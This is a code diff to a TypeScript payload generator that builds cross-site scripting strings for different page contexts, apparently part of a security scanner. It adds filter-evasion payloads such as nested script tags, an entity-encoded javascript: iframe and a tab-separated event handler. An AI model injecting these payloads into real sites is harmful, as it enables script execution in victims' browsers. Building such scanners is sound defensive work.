@@ -9,8 +9,10 @@ const tags = (call: string): string[] => [
   `<details open ontoggle=${call}\`\`>`,
   // For filters that take whole tags out: the next bracket of the page ends this one.
   `<img src=x onerror=${call}()//`,
-  // For filters that take a word out once.
-  `<scr<script>ipt>${call}()</scr</script>ipt>`,
+  // For filters that take a word out once, the beginning alone or the end too.
+  `<scr<script>ipt>${call}()//</scr</script>ipt>`,
+  // For filters that know handlers and the names of what runs scripts.
+  `<iframe src=java&#115;cript:${call}()>`,
 ];
 
 /** Up to nine payloads that fit one context, the likeliest first. Each calls `call` when it works. */
@@ -29,9 +31,9 @@ export function payloadsFor(context: Context, call: string): string[] {
     case 'tagName':
       return [
         `img src=x onerror=${call}() `,
-        ...tags(call)
-          .slice(0, 2)
-          .map((tag) => `x>${tag}`),
+        // Also where it is not known what is open.
+        `x"'>${tags(call)[0]}`,
+        `x>${tags(call)[1]}`,
       ];
     case 'attributeName':
       return [`onmouseover=${call}() x`, `x onfocus=${call}() autofocus `, `x>${tags(call)[0]}`];
@@ -53,7 +55,6 @@ const urlLike = /^(?:href|src|action|formaction|data)$/;
 function inAttribute(context: Extract<Context, { kind: 'attribute' }>, call: string): string[] {
   const { quote, atStart, name, loads } = context;
   const hosted = loads ? [`${loads === 'host' ? '' : '//'}${call}.example/`] : [];
-  const framed = name === 'srcdoc' ? tags(call).slice(0, 2) : [];
   const asUrl =
     atStart && urlLike.test(name)
       ? [
@@ -67,7 +68,7 @@ function inAttribute(context: Extract<Context, { kind: 'attribute' }>, call: str
     quote === ''
       ? [
           `x onmouseover=${call}() `,
-          `x/onmouseover=${call}()`,
+          `x\tonmouseover=${call}()`,
           `x>${tags(call)[0]}`,
           `x>${tags(call)[1]}`,
         ]
@@ -80,7 +81,7 @@ function inAttribute(context: Extract<Context, { kind: 'attribute' }>, call: str
           `${quote} onx= onmouseover=${call}() x=${quote}`,
           `${quote}>${tags(call)[1]}`,
         ];
-  return [...framed, ...hosted, ...asUrl, ...out];
+  return [...hosted, ...asUrl, ...out];
 }
 
 function inCode(code: CodeContext, call: string): string[] {
@@ -99,7 +100,7 @@ function inCode(code: CodeContext, call: string): string[] {
     case 'block':
       return [`*/${call}()/*`];
     case 'bare':
-      return [`${call}()`, `1;${call}()//`, `1,${call}()`, `1);${call}();//`, `x=${call}()`];
+      return [`${call}()`, `1;${call}()//`, `[${call}()]`, `1);${call}();//`, `x=${call}()`];
   }
 }
 
@@ -109,7 +110,7 @@ const inQuotes = (quote: string, call: string): string[] => [
   `${quote});${call}();//`,
   `\\${quote}-${call}()//`,
   `\\${quote});${call}()//`,
-  `${quote}}${call}();{${quote}`,
+  `${quote}-${call}\`\`-${quote}`,
 ];
 
 /** Inside an attribute the browser first decodes entities, so an escaped quote is as good as a quote. */
